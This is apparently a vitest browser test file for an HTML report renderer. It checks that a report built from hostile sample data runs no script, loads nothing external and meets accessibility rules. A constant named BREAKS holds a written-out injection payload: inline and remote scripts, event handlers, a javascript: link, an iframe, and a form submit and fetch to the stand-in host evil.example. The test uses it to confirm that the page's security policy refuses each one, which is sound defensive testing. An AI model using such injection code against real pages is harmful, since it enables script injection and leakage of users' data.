import { beforeAll, describe, expect, it } from "vitest";
import html from "../../src/report/html/html.ts";
import { languages } from "../../src/report/words/language.ts";
import { hostile } from "../report/samples.ts";
import { hostileSurvey } from "../report/surveys.ts";
import { judgedByAxe, noBrowser, overflow, THEMES, unfold, useBrowser, WIDTHS } from "./browser.ts";

const TITLE = "a hostile report in a real browser";

/** What a text that broke out would do, by way of the page's own tree; each gives whether the policy let it. */
const BREAKS = `(async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  const make = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
  make("script", { textContent: "window.hit = 1" });
  make("script", { src: "https://evil.example/x.js" });
  make("img", { src: "https://evil.example/x.png" });
  make("style", { textContent: "body { display: none }" });
  make("iframe", { src: "https://evil.example/" });
  make("div", { innerHTML: "<b onclick='window.hit = 1'>x</b>" });
  document.body.lastChild.firstChild.click();
  make("a", { href: "javascript:window.hit = 1" });
  document.body.lastChild.click();
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
  document.body.append(form);
  form.submit();
  await fetch("https://evil.example/").catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { refused: [...new Set(refused)].sort(), hit: window.hit, display: getComputedStyle(document.body).display };
})()`;

describe.skipIf(noBrowser)(`${TITLE}${noBrowser ? ` (skipped: ${noBrowser})` : ""}`, () => {
  const browser = useBrowser();
  const urls = new Map<string, string>();
  const urlOf = (name: string) => urls.get(name) ?? "";

  beforeAll(async () => {
    const survey = hostileSurvey(hostile);
    for (const language of languages) {
      urls.set(language, await browser.write(language, html.render(hostile, { survey, language })));
    }
    // So many containers that what is folded is read by the page's own script.
    const [node] = survey.nodes;
    if (node === undefined) throw new Error("the sample has no node");
    const containers = Array.from({ length: 60 }, () => node.containers).flat();
    const large = { ...survey, nodes: [{ ...node, containers }, ...survey.nodes.slice(1)] };
    urls.set("large", await browser.write("large", html.render(hostile, { survey: large })));
  });

  it.each([...languages, "large"])("runs nothing, asks for nothing and says nothing, all opened: %s", async (name) => {
    await browser.on(urlOf(name), async (page, { said, asked }) => {
      // Twice, since what is opened may hold what can be.
      for (let round = 0; round < 2; round++) {
        await unfold(page);
        await page.waitForTimeout(500);
      }
      expect(said).toEqual([]);
      expect(asked).toEqual([urlOf(name)]);
      expect(await page.evaluate("typeof window.hit")).toBe("undefined");
      expect(await page.evaluate("document.querySelectorAll('noscript').length")).toBe(0);
      expect(await page.evaluate("document.querySelectorAll('script').length")).toBe(1);
    });
  });

  it.each([...languages, "large"])("has no link that leaves the file, and no attribute that runs: %s", async (name) => {
    await browser.on(urlOf(name), async (page) => {
      await unfold(page);
      await page.waitForTimeout(500);
      const odd = await page.evaluate<string[]>(`[...document.querySelectorAll("body *")].flatMap((element) =>
        [...element.attributes].filter(({ name, value }) => /^on|^src|^style$|^action$|^formaction$/.test(name)
          || (/href$/.test(name) && !value.startsWith("#"))).map(({ name, value }) => name + "=" + value))`);
      expect(odd).toEqual([]);
    });
  });

  it("lets nothing that is put into it run, load or restyle", async () => {
    await browser.on(urlOf("en"), async (page, { asked, stopped }) => {
      const { refused, hit, display } = await page.evaluate<{ refused: string[]; hit: unknown; display: string }>(
        BREAKS,
      );
      expect(hit).toBeUndefined();
      expect(display).toBe("block");
      expect(asked.filter((url) => url !== urlOf("en") && !stopped.includes(url))).toEqual([]);
      expect(refused).toEqual(
        expect.arrayContaining([
          "connect-src",
          "form-action",
          "frame-src",
          "img-src",
          "script-src-attr",
          "script-src-elem",
          "style-src-elem",
        ]),
      );
    });
  });

  it("keeps texts from ruling the filter: a node's name chooses that node alone", async () => {
    await browser.on(urlOf("en"), async (page, { said }) => {
      await page.locator("select[name=node]").selectOption({ index: 1 });
      expect(await page.locator("output").textContent()).toBe("4 of 4 findings");
      await page.locator("select[name=group]").selectOption("node");
      expect(await page.locator(".regrouped script, .regrouped img, .regrouped svg").count()).toBe(0);
      expect(said).toEqual([]);
    });
  });

  it.each(THEMES)("never scrolls sideways, and violates no rule of accessibility: %s", async (theme) => {
    await browser.on(
      urlOf("en"),
      async (page) => {
        await page.emulateMedia({ colorScheme: theme });
        await unfold(page);
        for (const width of WIDTHS) {
          await page.setViewportSize({ width, height: 800 });
          expect(await overflow(page), `${width} wide`).toBeLessThanOrEqual(0);
        }
        expect((await judgedByAxe(page)).violations).toEqual([]);
      },
      "lenient",
    );
  });
});
